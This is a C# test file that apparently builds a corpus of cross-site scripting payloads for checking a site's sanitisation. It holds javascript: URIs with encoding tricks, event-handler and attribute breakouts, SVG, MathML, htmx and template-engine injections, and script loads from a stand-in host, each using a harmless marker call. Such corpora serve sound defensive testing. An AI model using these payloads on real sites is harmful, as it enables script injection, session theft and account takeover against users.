namespace B2BCentral.Testing.Hostile;

/// <summary>
/// The corpus: HIT stands for the call and NN for the number. Addresses lead, because they are dangerous only where a value begins with them;
/// <see cref="Chunks"/> puts one of them in front of each handful of others.
/// </summary>
public static class ScriptPayloads
{
    private const string ATemplateEngine = "a template engine that reads double braces";
    private const string AnOldBrowser = "a browser of another time";
    private const string APageThatEscapesQuotesAlone = "a page that escapes quotes and no backslash";
    private const string Nobody = "somebody who follows it";

    private static readonly (string Text, string? Needs)[] Addresses =
    [
        ("javascript:HIT", null),
        ("JaVaScRiPt:HIT//", null),
        ("  javascript:HIT", null),
        ("java\tscript:HIT", null),
        ("java\nscript:HIT", null),
        ("\u0001javascript:HIT", null),
        ("javascript://%0AHIT", null),
        ("javascript:/*--></title>*/HIT", null),
        ("javascript&colon;HIT", null),
        ("javascript&#58;HIT", null),
        ("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;HIT", null),
        ("&#x6A;avascript&#x3A;HIT", null),
        ("java&NewLine;script:HIT", null),
        ("javas&Tab;cript:HIT", null),
        ("javascript:eval(atob('aGl0'))(NN)", null),
        ("javascript:top['hi'+'t'](NN)", null),
        ("javascript:void(HIT)", null),
        ("javascript:\u0068it(NN)", null),
        ("vbscript:HIT", AnOldBrowser),
        ("livescript:HIT", AnOldBrowser),
        ("data:text/html,<script>parent.HIT</script>", Nobody),
        ("data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KE5OKTwvc2NyaXB0Pg==", Nobody),
        ("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.HIT'/>", Nobody),
        ("//elsewhere.example/hit.js?NN", Nobody),
        ("\\\\elsewhere.example\\hit?NN", Nobody),
        ("https:elsewhere.example/hit?NN", Nobody),
        ("feed:javascript:HIT", AnOldBrowser),
        ("view-source:javascript:HIT", AnOldBrowser),
        ("blob:javascript:HIT", AnOldBrowser),
        ("jar:javascript:HIT!/", AnOldBrowser),
    ];

    private static readonly (string Text, string? Needs)[] Markup =
    [
        // Elements
        ("<script data-hit>HIT</script>", null),
        ("<SCRIPT data-hit>HIT</SCRIPT >", null),
        ("<script/data-hit>HIT</script>", null),
        ("<script\n>HIT</script\n>", null),
        ("<script type=module data-hit>HIT</script>", null),
        ("<script src=\"data:text/javascript,HIT\"></script>", null),
        ("<scr<script>ipt data-hit>HIT</script>", AnOldBrowser),
        ("</main><script data-hit>HIT</script>", null),
        ("<img src=x data-hit onerror=HIT>", null),
        ("<img/src='x'/onerror='HIT' data-hit>", null),
        ("<img src=x:x onerror=\"HIT\" data-hit", null),
        ("<image src=x onerror=HIT data-hit>", null),
        ("<iframe srcdoc='<script>parent.HIT</script>' data-hit></iframe>", null),
        ("<iframe src=\"javascript:parent.HIT\" data-hit></iframe>", null),
        ("<object data=\"javascript:parent.HIT\" data-hit></object>", AnOldBrowser),
        ("<embed src=\"javascript:parent.HIT\" data-hit>", AnOldBrowser),
        ("<video data-hit><source onerror=HIT></video>", null),
        ("<audio src=x onerror=HIT data-hit>", null),
        ("<details open ontoggle=HIT data-hit><summary>Note</summary></details>", null),
        ("<input autofocus onfocus=HIT data-hit>", null),
        ("<body data-hit onload=HIT>", null),
        ("<marquee onstart=HIT data-hit>sale</marquee>", AnOldBrowser),
        ("<meta http-equiv=refresh content=\"0;url=javascript:HIT\" data-hit>", AnOldBrowser),
        ("<base href=\"javascript:HIT//\" data-hit>", AnOldBrowser),
        ("<link rel=stylesheet href=\"data:text/css,*{}\" onload=HIT data-hit>", null),
        ("<form action=\"javascript:HIT\" data-hit><button>Save</button></form>", null),
        ("<button formaction=\"javascript:HIT\" form=f data-hit>Save</button><form id=f></form>", null),
        ("<a href=\"javascript:HIT\" data-hit>Invoice</a>", null),
        ("<a href=\"&#1;javascript:HIT\" data-hit>Invoice</a>", null),
        ("<b onclick=HIT data-hit>bold</b>", null),
        ("<div onmouseover=\"HIT\" data-hit>over</div>", null),
        ("<p style=\"animation:a\" onanimationstart=HIT data-hit>a</p><style>@keyframes a{}</style>", null),
        ("<x-y tabindex=1 onfocus=HIT data-hit autofocus>", null),
        ("<select autofocus onfocus=HIT data-hit>", null),
        ("<textarea autofocus onfocus=HIT data-hit>", null),
        ("<dialog open onclose=HIT data-hit><form method=dialog><button>x</button></form></dialog>", null),
        // Out of an attribute
        ("\" autofocus onfocus=\"HIT\" data-hit=\"", null),
        ("' autofocus onfocus='HIT' data-hit='", null),
        (" autofocus onfocus=HIT data-hit ", null),
        ("\"><img src=x onerror=HIT data-hit>", null),
        ("'><img src=x onerror=HIT data-hit>", null),
        ("\"/onmouseover=\"HIT\"/data-hit=\"", null),
        ("` onfocus=HIT autofocus data-hit `", null),
        ("&quot;&gt;&lt;img src=x onerror=HIT data-hit&gt;", AnOldBrowser),
        // SVG and MathML
        ("<svg onload=HIT data-hit>", null),
        ("<svg/onload=HIT//data-hit", null),
        ("<svg><script data-hit>HIT</script></svg>", null),
        ("<svg><script href=\"data:text/javascript,HIT\" data-hit /></svg>", null),
        ("<svg><a href=\"javascript:HIT\" data-hit><text y=9>go</text></a></svg>", null),
        ("<svg><animate onbegin=HIT attributeName=x dur=1s data-hit /></svg>", null),
        ("<svg><set attributeName=onmouseover to=HIT data-hit /></svg>", AnOldBrowser),
        ("<svg><foreignObject><body onload=HIT data-hit></foreignObject></svg>", null),
        ("<svg><style><img src=x onerror=HIT data-hit></style></svg>", null),
        ("<math><mtext><table><mglyph><style><img src=x onerror=HIT data-hit>", AnOldBrowser),
        ("<math href=\"javascript:HIT\" data-hit>x</math>", AnOldBrowser),
        ("<math><maction actiontype=statusline#x xlink:href=\"javascript:HIT\" data-hit>x</maction></math>", AnOldBrowser),
        // htmx, which this site loads
        ("<div hx-on:load=\"HIT\" hx-trigger=load hx-get=/healthz data-hit></div>", AnOldBrowser),
        ("<div hx-on:click=\"HIT\" data-hit>go</div>", null),
        ("<div hx-on--before-request=\"HIT\" hx-get=\"/healthz\" hx-trigger=\"load\" data-hit></div>", null),
        ("<div hx-get=\"/healthz\" hx-trigger=\"load\" hx-vals=\"js:{a:HIT}\" data-hit></div>", null),
        ("<div hx-get=\"/healthz\" hx-trigger=\"load\" hx-headers='js:{\"a\":HIT}' data-hit></div>", null),
        ("<div hx-get=\"/healthz\" hx-trigger=\"click[HIT]\" data-hit>go</div>", null),
        ("<div data-hx-get=\"//elsewhere.example/NN\" hx-trigger=load hx-history=false data-hit></div>", Nobody),
        ("<div hx-history-elt hx-boost=true data-hit><a href=javascript:HIT>go</a></div>", null),
        // Templates
        ("<template><script data-hit>HIT</script></template>", AnOldBrowser),
        ("<div><template shadowrootmode=open><img src=x onerror=HIT data-hit></template></div>", null),
        ("{{constructor.constructor('HIT')()}}", ATemplateEngine),
        ("{{$on.constructor('HIT')()}}", ATemplateEngine),
        ("<div ng-app ng-csp ng-click=$event.view.HIT data-hit>{{1}}</div>", ATemplateEngine),
        ("${HIT}", null),
        ("#{HIT}", ATemplateEngine),
        ("<%= HIT %>", ATemplateEngine),
        ("@(HIT)", ATemplateEngine),
        ("@Html.Raw(\"<script>HIT</script>\")", null),
        // JSON and scripts around a text
        ("</script><script data-hit>HIT</script>", null),
        ("</ScRiPt\t><script data-hit>HIT</script>", null),
        ("<!--<script>\"</script><img src=x onerror=HIT data-hit>", null),
        ("\";HIT;//", null),
        ("';HIT;//", null),
        ("\\\";HIT;//", APageThatEscapesQuotesAlone),
        ("\u2028HIT\u2029//", AnOldBrowser),
        ("\"}</script><svg onload=HIT data-hit>", null),
        ("]]><script data-hit>HIT</script>", null),
        ("__proto__\":{\"onerror\":\"HIT\"},\"a\":\"", ATemplateEngine),
        // Styles
        ("</style><script data-hit>HIT</script>", null),
        ("red;background:url(javascript:HIT)", AnOldBrowser),
        ("expression(HIT)", AnOldBrowser),
        ("@import 'javascript:HIT';", AnOldBrowser),
        ("<style>@import 'data:text/css,*{color:red}';</style data-hit><svg onload=HIT>", null),
        // Out of other elements, and out of comments
        ("</title><script data-hit>HIT</script>", null),
        ("</textarea><script data-hit>HIT</script>", null),
        ("--><script data-hit>HIT</script>", null),
        ("--!><img src=x onerror=HIT data-hit>", null),
        ("</noscript><img src=x onerror=HIT data-hit>", null),
        ("<noscript><p title=\"</noscript><img src=x onerror=HIT data-hit>\">", null),
        ("</option></select><img src=x onerror=HIT data-hit>", null),
        ("<table><td background=\"javascript:HIT\" data-hit>", AnOldBrowser),
        // Letters that fold into others, and what is encoded
        ("\uFF1Cscript\uFF1EHIT\uFF1C/script\uFF1E", AnOldBrowser),
        ("\u2039script data-hit\u203AHIT\u2039/script\u203A", AnOldBrowser),
        ("<\u017Fcript data-hit>HIT</\u017Fcript>", AnOldBrowser),
        ("<scr\u0000ipt data-hit>HIT</scr\u0000ipt>", AnOldBrowser),
        ("<img src=x \u2028onerror=HIT data-hit>", AnOldBrowser),
        ("\u202E<script data-hit>HIT</script>", null),
        ("%3Cscript data-hit%3EHIT%3C/script%3E", AnOldBrowser),
        ("\\u003cimg src=x onerror=HIT data-hit\\u003e", null),
        ("\\x3cimg src=x onerror=HIT data-hit\\x3e", null),
        ("&lt;script data-hit&gt;HIT&lt;/script&gt;", AnOldBrowser),
        ("+ADw-script+AD4-HIT+ADw-/script+AD4-", AnOldBrowser),
        ("<img src=x onerror=\"&#104;&#105;&#116;(NN)\" data-hit>", null),
        ("<img src=x onerror=\"\\u0068it(NN)\" data-hit>", null),
        // Many contexts at once
        ("javascript:/*'/*`/*--></noscript></title></textarea></style></template></select></script><svg onload=HIT data-hit>", null),
        ("'\"><svg/onload='HIT' data-hit>{{7*7}}<!--", null),
        ("\"'--></style></script><img src=x onerror=HIT data-hit>`${HIT}`", null),
    ];

    public static IReadOnlyList<ScriptPayload> All { get; } = [.. Addresses.Concat(Markup).Select((one, i) => ScriptPayload.Of(i + 1, one.Text, one.Needs, isAddress: i < Addresses.Length))];

    /// <summary>As many texts as there are addresses. Each begins with one, and together they hold every payload.</summary>
    public static IReadOnlyList<string> Chunks { get; } =
    [
        .. All.Where(payload => payload.IsAddress).Select((address, i) =>
            string.Join(' ', All.Where(payload => !payload.IsAddress).Where((_, at) => at % Addresses.Length == i).Prepend(address).Select(payload => payload.Text))),
    ];
}
